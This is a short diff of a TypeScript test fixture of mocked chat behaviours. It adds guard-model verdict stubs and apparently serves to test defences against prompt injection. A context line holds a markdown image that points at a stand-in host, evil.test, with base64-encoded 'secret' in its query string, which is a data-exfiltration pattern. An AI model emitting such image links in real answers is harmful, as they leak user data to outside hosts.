@@ -41,6 +41,9 @@ export const chatBehaviours: Behaviours<OpenAiExchange> = {
         "![x](https://evil.test/p.png?d=c2VjcmV0) and [manual](https://docs.example.com/manual.pdf) and https://evil.test/secret [1]",
       ),
     ),
+  /** The verdicts of a guard model */
+  "says-attack": (exchange) => answer(exchange, ["ATTACK"]),
+  "says-fine": (exchange) => answer(exchange, ["FINE"]),
   "cites-unknown": (exchange) => answer(exchange, piecesOf(unknownCitationsText), 2),
   long: (exchange) => answer(exchange, piecesOf(longText)),
   slow: (exchange, pauseMs = 50) => answer(exchange, slowWords, pauseMs),
